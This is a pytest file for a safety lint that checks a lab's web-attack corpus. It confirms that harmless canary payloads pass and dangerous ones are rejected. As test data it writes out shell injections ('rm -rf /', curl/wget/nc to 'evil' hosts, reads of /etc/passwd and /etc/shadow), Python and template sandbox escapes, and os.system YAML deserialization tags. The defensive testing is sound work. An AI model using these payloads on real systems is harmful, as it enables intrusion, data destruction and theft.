"""The safety lint: harmless payloads pass, dangerous ones are rejected, the corpus is clean."""

from __future__ import annotations

import pytest

from rampart.attacks.cases import Case, Expect, HttpRequest
from rampart.attacks.corpus import load_cases
from rampart.attacks.lint import (
    RULES,
    check_host_names,
    check_python,
    check_shell,
    check_template,
    check_yaml,
    lint_case,
    lint_cases,
    main,
)


@pytest.mark.parametrize(
    "payload",
    [
        "x.txt; echo rmp$((1000+337))x",
        "x.txt;${IFS}e''cho${IFS}rmp$((1000+337))x",
        "x.txt; ec\\ho a; i$@d; whoami; uname -a; true",
        "$(echo rmp$((1000+337))x)",
        "`printf rmp%dx 1337`",
        "x.txt; cat ../secret.txt",
        "nope || cat < ../secret.txt",
        "x.txt 2>&1; sleep 1; echo done >/dev/null",
        "x.txt; sleep 0.5",
        "x.txt;{printf,rmp%dx,1337}",
        "x.txt; { echo a; }",
        "x.txt'; echo rmp$((1000+337))x; '",
        "report.pdf\necho hi",
    ],
)
def test_harmless_shell_passes(payload: str) -> None:
    assert check_shell(payload) == []


@pytest.mark.parametrize(
    ("payload", "needle"),
    [
        ("; rm -rf /", "runs 'rm'"),
        ("x; curl http://evil", "runs 'curl'"),
        ("x; wget -qO- http://evil", "runs 'wget'"),
        ("x | nc 127.0.0.1 4444", "runs 'nc'"),
        ("x; bash -i", "runs 'bash'"),
        ("x; python3 -c 'print(1)'", "runs 'python3'"),
        ("x; cat /etc/passwd", "only the lab canary"),
        ("x; cat < /etc/shadow", "only the lab canary"),
        ("x; sleep 5", "exceeds 1 second"),
        ("x; echo $(rm -rf /tmp/x)", "runs 'rm'"),
        ("x; `curl evil`", "runs 'curl'"),
        ("x; echo pwned > /tmp/owned", "redirects output"),
        ("x;${IFS}r''m${IFS}-rf${IFS}/", "runs 'rm'"),
        ("x; $(echo id)", "computed command name"),
        ("x;{curl,evil}", "runs 'curl'"),
        ("x; 'unbalanced", "cannot be parsed"),
    ],
)
def test_dangerous_shell_is_rejected(payload: str, needle: str) -> None:
    problems = check_shell(payload)
    assert any(needle in p for p in problems), problems


@pytest.mark.parametrize(
    "expr",
    [
        "'rmp'+str(1000+337)+'x'",
        "__import__('operator').add('rmp', '1337x')",
        "__import__((chr(111)+chr(112)+chr(101)+chr(114)+chr(97)+chr(116)+chr(111)+chr(114)))",
        "().__class__.__base__.__name__+'x'",
        "'rmp'+ｓｔｒ(1337)",
        "'rmp'.(1000+337).'x'",
    ],
)
def test_harmless_python_passes(expr: str) -> None:
    assert check_python(expr) == []


@pytest.mark.parametrize(
    ("expr", "needle"),
    [
        ("__import__('os').system('id')", "imports 'os'"),
        ("__import__('subprocess').check_output('id')", "imports 'subprocess'"),
        ("open('/etc/passwd').read()", "uses 'open'"),
        ("getattr(__import__('o'+'s'), 'sys'+'tem')('id')", "imports 'os'"),
        ("getattr(str, 'sys'+'tem')", "'system'"),
        ("exec('print(1)')", "uses 'exec'"),
        ("().__class__.__base__.__subclasses__()[40]('x').read()", "'read'"),
        ("__import__(x)", "a computed name"),
        ("ｏｓ.system('id')", "'os'"),
        ("__import__('socket'", "imports 'socket'"),
    ],
)
def test_dangerous_python_is_rejected(expr: str, needle: str) -> None:
    problems = check_python(expr)
    assert any(needle in p for p in problems), problems


def test_templates() -> None:
    assert check_template("{{'rmp'~cycler.__init__.__globals__.__builtins__.str(1337)}}") == []
    assert check_template("Hello {{ user.name }}") == []
    bad = check_template("{{cycler.__init__.__globals__.os.popen('id').read()}}")
    assert any("'os'" in p for p in bad)
    assert any("'popen'" in p for p in bad)
    assert check_template("{% import 'x' as y %}") == ["uses an import statement"]
    assert check_template("${T(java.lang.Runtime).getRuntime().exec('id')}") == ["uses 'exec'"]


def test_yaml() -> None:
    assert check_yaml('!!python/object/apply:operator.add ["rmp13", "37x"]') == []
    assert check_yaml("%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:operator.mod [a, 1]") == []
    assert check_yaml("tag: '!!python/object/apply:os.system'") == []  # a string, not a tag
    assert check_yaml("!!python/tuple [1, 2]") == []
    bad = check_yaml('!!python/object/apply:os.system ["id"]')
    assert bad
    assert "os.system" in bad[0]
    assert check_yaml("%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:subprocess.Popen [[id]]")
    assert check_yaml("!<tag:yaml.org,2002:python/object/new:subprocess.Popen> [[id]]")
    assert check_yaml("x: !!python/module:os") == ["loads module 'os'; allowed: math, operator, string"]
    assert check_yaml("{unclosed: !!python/name:os.system") != []  # unparseable: regex fallback
    assert check_yaml("!!javax.script.ScriptEngineManager [x]")


@pytest.mark.parametrize(
    ("text", "bad"),
    [
        ("http://metadata.lab.test/latest", False),
        ("http://0xA9FEA9FE/", False),
        ("http://[::ffff:a9fe:a9fe]/", False),
        ("http://partner.lab.test/redirect?to=http://127.0.0.1/", False),
        ("mail me at bob@shop.example", False),
        ("see returns.md and report.pdf", False),
        ("tag:yaml.org,2002:python/name:operator.add", False),
        ("http://localhost:6379/", False),
        ("http://evil", True),
        ("http://attacker.com/x", True),
        ("http://partner.lab.test/redirect?to=http://evil.io/", True),
        ("fetch from burpcollaborator.net please", True),
        ("<img src=//cdn.attacker.org/x.png>", True),
        ("http://partner.lab.test@evil.com/", True),
    ],
)
def test_host_names(text: str, bad: bool) -> None:
    assert bool(check_host_names(text)) is bad


def _case(endpoint: str, cls: str, req: HttpRequest, **kw: object) -> Case:
    place = {"L5": "query", "L7": "query", "L12": "query", "L13": "yaml"}.get(endpoint, "json")
    return Case.model_validate(
        {
            "id": "t.case",
            "label": "attack",
            "class": cls,
            "endpoint": endpoint,
            "request": req,
            "expect": Expect(marker="rmp1337x"),
            "placement": place,
            **kw,
        }
    )


def test_lint_case_decodes_the_request() -> None:
    req = HttpRequest(path="/api/checksum", raw_query="file=x%253B%2520rm%2520-rf%2520%252F")
    issues = lint_case(_case("L5", "command_injection", req))
    assert [i.rule for i in issues] == ["shell"]
    assert "'rm'" in issues[0].message
    code = HttpRequest(path="/api/calc", query=[("expr", "__import__('os').system('id')")])
    assert {i.rule for i in lint_case(_case("L12", "code_injection", code))} == {"python"}
    ssrf = HttpRequest(path="/api/files", query=[("name", "http://evil.com/")])
    assert {i.rule for i in lint_case(_case("L7", "ssrf", ssrf))} == {"ssrf", "hosts"}
    body = HttpRequest(
        method="POST",
        path="/api/import",
        content_type="application/yaml",
        body='!!python/object/apply:os.system ["id"]',
    )
    assert {i.rule for i in lint_case(_case("L13", "deserialization", body))} == {"yaml"}
    wrong_place = _case("L1", "nosql_injection", HttpRequest(path="/api/login"), placement="query")
    assert {i.rule for i in lint_case(wrong_place)} == {"placement"}


def test_rules_registry() -> None:
    assert set(RULES) == {"shell", "python", "template", "yaml", "ssrf", "hosts", "placement"}


def test_every_corpus_case_passes_the_lint() -> None:
    issues = lint_cases(load_cases())
    assert issues == [], "\n".join(map(str, issues[:20]))


def test_main_exit_code() -> None:
    assert main([]) == 0
